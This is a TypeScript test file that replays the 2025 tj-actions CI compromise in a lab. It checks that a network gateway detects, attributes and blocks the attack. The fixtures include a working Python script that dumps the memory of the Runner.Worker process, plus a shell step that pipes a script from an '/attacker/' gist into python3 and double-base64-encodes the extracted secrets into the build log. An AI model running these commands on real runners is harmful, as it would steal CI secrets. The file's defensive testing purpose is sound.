// docs/incidents/tj-actions.md
import { readFileSync } from 'node:fs'
import t, { type Test } from 'tap'
import { makeDecoys } from '../../../gateway/canary/decoys.ts'
import { parseCanaryFile } from '../../../gateway/canary/canary-file.ts'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { itIsTold, replay, type Incident, type Replayed } from './replay.ts'

t.setTimeout(180_000)

const gist = 'gist.githubusercontent.com'
const path = '/attacker/30e5/raw/memdump.py'

/** Finds the process that knows the secrets, and prints all of its memory that can be read. */
const memdump = `import re, sys, os
def runner():
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            if b'Runner.Worker' in open('/proc/%s/cmdline' % pid, 'rb').read(): return pid
        except OSError: pass
pid = runner()
with open('/proc/%s/maps' % pid) as maps, open('/proc/%s/mem' % pid, 'rb', 0) as memory:
    for line in maps:
        found = re.match(r'([0-9a-f]+)-([0-9a-f]+) (r)', line)
        if not found or '[v' in line: continue
        start, end = int(found.group(1), 16), int(found.group(2), 16)
        try:
            memory.seek(start)
            sys.stdout.buffer.write(memory.read(end - start))
        except OSError: pass
`

/** Holds the secrets of a workflow in its memory, as the runner does, and in no file and no argument. */
const worker = `import os, time
known = ','.join('"%s":{"value":"%s","isSecret":true}' % (name, os.environ[name]) for name in ('DEPLOY_GITHUB_TOKEN', 'REAL_SECRET'))
open(os.environ['WORK'] + '/up', 'w')
time.sleep(60)
`

const action = `curl -sSf https://${gist}${path} | python3 - | tr -d '\\0' |
  grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0 >&3
echo changed-files >files`

const secret = 'tidegate-replay-real-secret'
const incident: Incident<'runner' | 'action' | 'build'> = {
  attacker: [],
  honest: [gist],
  spoils: [],
  policy: 'allow:\n  - api.acme.test\ncanaries: true\n',
  env: { REAL_SECRET: secret },
  steps: {
    runner: `printf '%s' '${worker.replaceAll("'", "'\\''")}' >worker.py
      python3 worker.py Runner.Worker & while [ ! -e "$WORK/up" ]; do sleep 0.05; done`,
    action,
    build: 'curl -sS --fail -m 10 -o /dev/null https://api.acme.test/status/200',
  },
}

/** What the log of the build gave away to everybody. */
function leaked({ stdout }: Pick<Replayed<string>, 'stdout'>): string {
  return Buffer.from(Buffer.from(stdout.trim(), 'base64').toString(), 'base64').toString()
}

function tokenOf({ out }: Pick<Replayed<string>, 'out'>): string {
  const { seed } = parseCanaryFile(readFileSync(`${out}/canaries.json`, 'utf8'), 'canaries.json')
  return makeDecoys(seed).environment['DEPLOY_GITHUB_TOKEN'] ?? ''
}

function canaryIsTold(t: Test, { findings, markdown }: Pick<Replayed<string>, 'findings' | 'markdown'>): void {
  t.match(
    findings.filter(({ kind }) => kind === 'canary'),
    [{ subject: 'DEPLOY_GITHUB_TOKEN', note: /in what the command printed \(base64 twice\)/ }],
  )
  t.match(markdown, 'The planted GitHub token', 'the report names it')
}

t.test('tj-actions, 2025: an action that prints the runner’s secrets into the log', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  await lab.origins.script(gist, path, { status: 200, body: memdump })
  const told = { host: gist, reason: 'no-rule', exe: /\/curl$/, parent: /sh$/ }

  await t.test('in audit it is seen, named and attributed', async t => {
    const run = await replay(lab, incident, 'audit')
    t.match(leaked(run), `"REAL_SECRET":{"value":"${secret}","isSecret":true}`, 'the attack works')
    t.match(leaked(run), tokenOf(run))
    itIsTold(t, run, { ...told, verdict: 'observe', layer: 'http', method: 'GET' })
    canaryIsTold(t, run)
  })
  await t.test('in block the script never comes, and nothing is printed', async t => {
    const run = await replay(lab, incident, 'block')
    t.same(await lab.origins.requests({ host: gist }), [])
    t.same(await lab.dns.queries({ name: gist }), [])
    t.equal(run.stdout, '')
    itIsTold(t, run, { ...told, verdict: 'deny', layer: 'dns' })
    t.same(
      run.findings.filter(({ kind }) => kind === 'canary'),
      [],
    )
    t.equal(run.step('build').exitCode, 0, run.step('build').stderr)
  })
  await t.test(
    'where the host is allowed, the log tells all the same, and the job has no network any more',
    async t => {
      const policy = `allow:\n  - api.acme.test\n  - GET ${gist}\ncanaries: true\n`
      const run = await replay(lab, { ...incident, policy }, 'block')
      t.match(leaked(run), tokenOf(run), 'it was printed')
      canaryIsTold(t, run)
      t.not(run.step('build').exitCode, 0)
      t.same(await lab.origins.requests({ host: 'api.acme.test' }), [], 'nothing went out after it')
    },
  )
})
